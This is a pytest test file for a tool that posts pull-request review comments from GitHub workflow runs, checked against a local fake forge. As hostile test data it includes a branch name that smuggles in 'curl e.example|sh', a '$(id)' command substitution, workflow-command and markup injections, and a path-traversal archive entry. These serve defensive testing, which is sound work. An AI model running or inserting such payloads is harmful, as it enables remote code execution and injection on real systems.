"""The second stage on GitHub: run as the job runs it, against a forge on this machine."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hindsite.review.comment import MARKER
from tests.conftest import REPOSITORY
from tests.review.forge import GOOD, Elsewhere, Forge, archive, serving

SHA = "0123456789abcdef0123456789abcdef01234567"
OURS, FORK = "sre/kb", "mallory/kb"
TOKEN = "token-of-the-job"  # noqa: S105 - of nothing
BRANCH = "x';curl e.example|sh;'&state=all#"
COMMENTS = f"/repos/{OURS}/issues/7/comments"
BOT = {"login": "github-actions[bot]", "type": "Bot"}


def pull(number: int = 7, **changes: Any) -> dict[str, Any]:
    """An open pull request whose head is the run's commit."""
    head = {"sha": SHA, "ref": BRANCH}
    return {
        "number": number,
        "state": "open",
        "title": "@all `$(id)`\n::error::x",
        "base": {"repo": {"full_name": OURS}},
        "head": head,
        **changes,
    }


def event(*numbers: int, **changes: Any) -> dict[str, Any]:
    """What GitHub says of a finished run; without numbers the request is from a fork."""
    named = [
        {"number": number, "base": {"repo": {"url": f"https://api.e.example/repos/{OURS}"}}}
        for number in numbers
    ]
    run = {
        "id": 99,
        "event": "pull_request",
        "head_sha": SHA,
        "head_branch": BRANCH,
        "head_repository": {"full_name": FORK, "owner": {"login": "mallory"}},
        "html_url": f"https://github.example/{OURS}/actions/runs/99",
        "pull_requests": named,
        **changes,
    }
    return {"workflow_run": run}


def answers(**changes: Any) -> dict[str, Any]:
    """A forge with one request, one artifact, and comments of others."""
    found: dict[str, Any] = {
        f"/repos/{OURS}/pulls": [pull()],
        f"/repos/{OURS}/pulls/7": pull(),
        f"/repos/{OURS}/actions/runs/99/artifacts": {
            "artifacts": [{"id": 5, "name": "review", "expired": False, "size_in_bytes": 500}]
        },
        "/blob": archive({"comment.md": GOOD.encode()}),
        COMMENTS: [
            {"id": n, "body": "Fine", "user": {"login": "ada", "type": "User"}} for n in range(120)
        ],
    }
    return {**found, **changes}


@pytest.fixture
def forge() -> Iterator[Forge]:
    """A forge whose downloads are on another host than its interface, as GitHub's are."""
    with serving(answers()) as made:
        port = made.address.rpartition(":")[2]
        blob = Elsewhere(f"http://localhost:{port}/blob")
        made.answers[f"/repos/{OURS}/actions/artifacts/5/zip"] = blob
        yield made


def post(forge: Forge, tmp_path: Path, given: dict[str, Any]) -> subprocess.CompletedProcess[str]:
    """Run the job's command, with an interpreter that has no other package."""
    file = tmp_path / "event.json"
    file.write_text(json.dumps(given), encoding="utf-8")
    own = {
        "GITHUB_EVENT_PATH": str(file),
        "GITHUB_API_URL": forge.address,
        "GITHUB_REPOSITORY": OURS,
        "GITHUB_TOKEN": TOKEN,
        "PYTHONPATH": str(REPOSITORY / "macros"),
    }
    kept = {name: value for name, value in os.environ.items() if name in ("PATH", "SYSTEMROOT")}
    done = subprocess.run(
        (sys.executable, "-S", "-m", "hindsite.review", "github"),
        env={**kept, **own},
        capture_output=True,
        text=True,
        check=False,
    )
    lines = (done.stdout + done.stderr).splitlines()
    assert all(line.startswith("hindsite: ") and line.isprintable() for line in lines)
    assert TOKEN not in done.stdout + done.stderr
    return done


@pytest.mark.parametrize("numbers", [(7,), ()], ids=["same repository", "fork"])
def test_a_comment_is_posted(forge: Forge, tmp_path: Path, numbers: tuple[int, ...]) -> None:
    """The request is found by the event's number, or by the fork's branch and the commit."""
    done = post(forge, tmp_path, event(*numbers))
    assert (done.returncode, done.stdout) == (0, "hindsite: posted a comment on pull request 7\n")
    (write,) = forge.writes
    assert (write.method, write.path) == ("POST", COMMENTS)
    assert write.body["body"].startswith(f"{MARKER}\n{GOOD.splitlines()[0]}")
    if not numbers:
        asked = next(one for one in forge.asked if one.path == f"/repos/{OURS}/pulls")
        assert asked.query["head"] == f"mallory:{BRANCH}"
        assert asked.query["state"] == "open"


def test_the_token_stays_with_the_interface(forge: Forge, tmp_path: Path) -> None:
    """The host that a download is redirected to does not see it; the interface does each time."""
    post(forge, tmp_path, event(7))
    seen = {one.path: one.headers.get("Authorization") for one in forge.asked}
    assert seen.pop("/blob") is None
    assert set(seen.values()) == {f"Bearer {TOKEN}"}


def test_our_comment_is_replaced_and_nobody_elses(forge: Forge, tmp_path: Path) -> None:
    """The marker in somebody's comment makes it none of ours."""
    forge.answers[COMMENTS] += [
        {"id": 900, "body": f"{MARKER}\nfake", "user": {"login": "mallory", "type": "User"}},
        {"id": 901, "body": f"{MARKER}\nother", "user": {"login": "other[bot]", "type": "Bot"}},
        {"id": 902, "body": f"hello {MARKER}", "user": BOT},
        {"id": 903, "body": f"{MARKER}\nold", "user": BOT},
        {"id": 904, "body": f"{MARKER}\nghost", "user": None},
    ]
    done = post(forge, tmp_path, event(7))
    assert done.returncode == 0
    (write,) = forge.writes
    assert (write.method, write.path) == ("PATCH", f"/repos/{OURS}/issues/comments/903")


@pytest.mark.parametrize(
    "found",
    [
        [],
        [pull(state="closed")],
        [pull(head={"sha": "f" * 40})],
        [pull(base={"repo": {"full_name": FORK}})],
        [pull(), pull(8)],
    ],
    ids=["none", "closed", "newer commit", "another repository", "two"],
)
def test_requests_that_are_passed_over(forge: Forge, tmp_path: Path, found: list[Any]) -> None:
    """Only the one open request whose newest commit was checked gets a comment."""
    forge.answers[f"/repos/{OURS}/pulls"] = found
    done = post(forge, tmp_path, event())
    assert done.returncode == 0
    assert done.stdout.startswith("hindsite: nothing to do: ")
    assert forge.writes == []


def test_numbers_of_other_repositories(forge: Forge, tmp_path: Path) -> None:
    """The event may name requests elsewhere in the network of forks; they are none of ours."""
    given = event(7)
    named = {"number": 7, "base": {"repo": {"url": f"https://api.e.example/repos/{FORK}"}}}
    given["workflow_run"]["pull_requests"] = [named]
    assert post(forge, tmp_path, given).stdout.startswith("hindsite: nothing to do: ")
    assert forge.writes == []


def test_other_runs_and_no_artifact(forge: Forge, tmp_path: Path) -> None:
    """A run of a push, and one that ended before it wrote anything, have nothing to tell."""
    assert "not of a pull request" in post(forge, tmp_path, event(7, event="push")).stdout
    forge.answers[f"/repos/{OURS}/actions/runs/99/artifacts"] = {"artifacts": []}
    assert "no artifact" in post(forge, tmp_path, event(7)).stdout
    assert forge.writes == []


def test_no_news_is_no_comment(forge: Forge, tmp_path: Path) -> None:
    """That no postmortem changes is worth no comment, but replaces one that says otherwise."""
    forge.answers["/blob"] = archive({"comment.md": b"## What\n\nno postmortem changes.\n"})
    assert "no postmortem changes" in post(forge, tmp_path, event(7)).stdout
    assert forge.writes == []
    forge.answers[COMMENTS] = [{"id": 903, "body": f"{MARKER}\nold", "user": BOT}]
    post(forge, tmp_path, event(7))
    assert [one.method for one in forge.writes] == ["PATCH"]


@pytest.mark.parametrize(
    "data",
    [
        archive({"comment.md": b"@all look"}),
        archive({"comment.md": b"- <img src=x>\x1b[2J\n::error::x"}),
        archive({"comment.md": GOOD.encode(), "number": b"8"}),
        archive({"../../comment.md": GOOD.encode()}),
        b"junk",
        b"0" * 2_000_000,
    ],
    ids=["mention", "markup", "a number of its own", "a way out", "junk", "large"],
)
def test_hostile_artifacts(forge: Forge, tmp_path: Path, data: bytes) -> None:
    """Nothing is posted, and the job fails with one line."""
    forge.answers["/blob"] = data
    done = post(forge, tmp_path, event(7))
    assert (done.returncode, done.stdout) == (1, "")
    assert len(done.stderr.splitlines()) == 1
    assert forge.writes == []


def test_the_forge_says_no(forge: Forge, tmp_path: Path) -> None:
    """An answer that is an error is told with what was asked."""
    del forge.answers[f"/repos/{OURS}/pulls/7"]
    done = post(forge, tmp_path, event(7))
    assert done.returncode == 1
    assert done.stderr == f"hindsite: GET /repos/{OURS}/pulls/7: 404 Not Found\n"
